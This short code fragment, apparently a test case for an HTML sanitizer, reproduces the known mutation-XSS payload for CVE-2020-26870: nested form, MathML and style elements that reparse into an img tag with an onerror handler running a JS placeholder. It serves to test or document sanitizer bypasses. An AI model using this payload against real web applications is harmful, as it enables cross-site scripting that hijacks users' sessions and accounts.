"""What MathML ends in one parse and not in the next (CVE-2020-26870)."""

html(f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}></style></mglyph></form>")
